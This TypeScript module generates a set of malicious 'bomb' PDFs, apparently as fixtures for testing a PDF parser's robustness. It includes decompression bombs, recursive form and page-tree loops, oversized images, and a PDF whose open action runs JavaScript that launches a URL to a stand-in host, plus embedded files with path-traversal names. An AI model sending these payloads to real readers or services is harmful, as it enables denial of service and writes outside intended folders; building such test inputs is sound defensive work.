import { constants, deflateSync } from "node:zlib";

/** A PDF made to harm its reader; several are after real ones (CVE-less classics of every PDF parser). */
export interface Bomb {
	readonly name: string;
	readonly pdf: Uint8Array;
}

const PAGE = "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << >> >>";

/** Makes the bombs, each some kilobytes. */
export function bombs(): Bomb[] {
	return [
		{ name: "a stream of 600 MB packed twice", pdf: pageWith(twicePacked(600)) },
		{ name: "forms that draw forms, 10^12 times", pdf: laughs() },
		{ name: "two hundred thousand pages", pdf: kids(200_000) },
		{
			name: "pages that are their own parents",
			pdf: pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"]),
		},
		{ name: "a hundred thousand rulings", pdf: pageWith(content(lines(100_000))) },
		{ name: "two million pieces of text", pdf: pageWith(content(`BT ${"(a) Tj ".repeat(2_000_000)} ET`)) },
		{ name: "arrays fifty thousand deep", pdf: typed(`${"[".repeat(50_000)}${"]".repeat(50_000)} TJ`) },
		{ name: "a picture of 60,000 by 60,000", pdf: hugeImage() },
		{ name: "a length that is its own length", pdf: pageWith({ head: "/Length 4 0 R", body: Buffer.from("0 0 m") }) },
		{ name: "a table of objects before itself", pdf: endlessXref() },
		{ name: "a font with a map of everything to everything", pdf: lyingFont() },
		{ name: "scripts, and files that want to leave their folder", pdf: scripted() },
	];
}

interface Stream {
	readonly head: string;
	readonly body: Buffer;
}

function content(text: string): Stream {
	const body = deflateSync(Buffer.from(text, "latin1"));
	return { head: `/Filter /FlateDecode /Length ${body.length}`, body };
}

function twicePacked(megabytes: number): Stream {
	const once = deflateSync(Buffer.alloc(megabytes * 1024 * 1024, 32), { strategy: constants.Z_RLE, level: 1 });
	const body = deflateSync(once, { level: 9 });
	return { head: `/Filter [/FlateDecode /FlateDecode] /Length ${body.length}`, body };
}

function lines(count: number): string {
	return Array.from({ length: count }, (_, i) => `${i % 595} ${i % 842} m ${(i * 7) % 595} ${i % 842} l S`).join("\n");
}

function pageWith(stream: Stream): Uint8Array {
	return pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>", PAGE, stream]);
}

function laughs(): Uint8Array {
	const levels = 12;
	const form = (level: number): Stream => {
		const body = Buffer.from(level === 0 ? "0 0 10 10 re f" : "/X Do ".repeat(10));
		const next = level === 0 ? "" : `/Resources << /XObject << /X ${5 + levels - level} 0 R >> >>`;
		return { head: `/Type /XObject /Subtype /Form /BBox [0 0 10 10] ${next} /Length ${body.length}`, body };
	};
	const forms = Array.from({ length: levels }, (_, i) => form(levels - 1 - i));
	const page = PAGE.replace("/Resources << >>", "/Resources << /XObject << /X 5 0 R >> >>");
	return pdfOf([
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		page,
		content("/X Do"),
		...forms,
	]);
}

function kids(count: number): Uint8Array {
	const list = "3 0 R ".repeat(count);
	return pdfOf(["<< /Type /Catalog /Pages 2 0 R >>", `<< /Type /Pages /Kids [${list}] /Count ${count} >>`, PAGE, content("")]);
}

function hugeImage(): Uint8Array {
	const body = deflateSync(Buffer.alloc(1000));
	const image = {
		head: `/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode /Length ${body.length}`,
		body,
	};
	const page = PAGE.replace("/Resources << >>", "/Resources << /XObject << /I 5 0 R >> >>");
	return pdfOf([
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		page,
		content("595 0 0 842 0 0 cm /I Do"),
		image,
	]);
}

function endlessXref(): Uint8Array {
	const bytes = Buffer.from(pageWith(content("0 0 m"))).toString("latin1");
	const start = /startxref\n(\d+)/.exec(bytes)?.[1] ?? "0";
	return new Uint8Array(Buffer.from(bytes.replace("/Size", `/Prev ${start} /XRefStm ${start} /Size`), "latin1"));
}

const WITH_FONT = PAGE.replace("/Resources << >>", "/Resources << /Font << /F 5 0 R >> >>");

function typed(text: string): Uint8Array {
	return pdfOf([
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		WITH_FONT,
		content(`BT /F 9 Tf 50 700 Td ${text} ET`),
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
	]);
}

function lyingFont(): Uint8Array {
	const ranges = Array.from({ length: 100 }, () => "<0000> <FFFF> <0000>").join("\n");
	const map = content(`1 begincodespacerange <0000> <FFFF> endcodespacerange 100 beginbfrange\n${ranges}\nendbfrange`);
	const font =
		"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /FirstChar 0 /LastChar 2000000000 /Widths [1e30 -1e30] /ToUnicode 6 0 R >>";
	return pdfOf([
		"<< /Type /Catalog /Pages 2 0 R >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		WITH_FONT,
		content("BT /F 1e9 Tf (abc) Tj ET"),
		font,
		map,
	]);
}

function scripted(): Uint8Array {
	const file = { head: "/Type /EmbeddedFile /Length 4", body: Buffer.from("evil") };
	const names = "/Names << /EmbeddedFiles << /Names [(../../../tmp/gouji-embedded\\n) 5 0 R] >> >>";
	return pdfOf([
		`<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.launchURL("http://192.0.2.1/")) >> ${names} >>`,
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		PAGE,
		content("0 0 m"),
		"<< /Type /Filespec /F (../../../tmp/gouji-embedded) /EF << /F 6 0 R >> >>",
		file,
	]);
}

function pdfOf(objects: readonly (string | Stream)[]): Uint8Array {
	const parts: Buffer[] = [Buffer.from("%PDF-1.7\n")];
	const offsets: number[] = [];
	let length = parts[0]?.length ?? 0;
	const add = (part: Buffer) => {
		parts.push(part);
		length += part.length;
	};
	objects.forEach((object, i) => {
		offsets.push(length);
		if (typeof object === "string") add(Buffer.from(`${i + 1} 0 obj\n${object}\nendobj\n`, "latin1"));
		else {
			add(Buffer.from(`${i + 1} 0 obj\n<< ${object.head} >>\nstream\n`, "latin1"));
			add(object.body);
			add(Buffer.from("\nendstream\nendobj\n"));
		}
	});
	const table = offsets.map((offset) => `${String(offset).padStart(10, "0")} 00000 n \n`).join("");
	const size = objects.length + 1;
	add(
		Buffer.from(
			`xref\n0 ${size}\n0000000000 65535 f \n${table}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${length}\n%%EOF\n`,
		),
	);
	return new Uint8Array(Buffer.concat(parts));
}
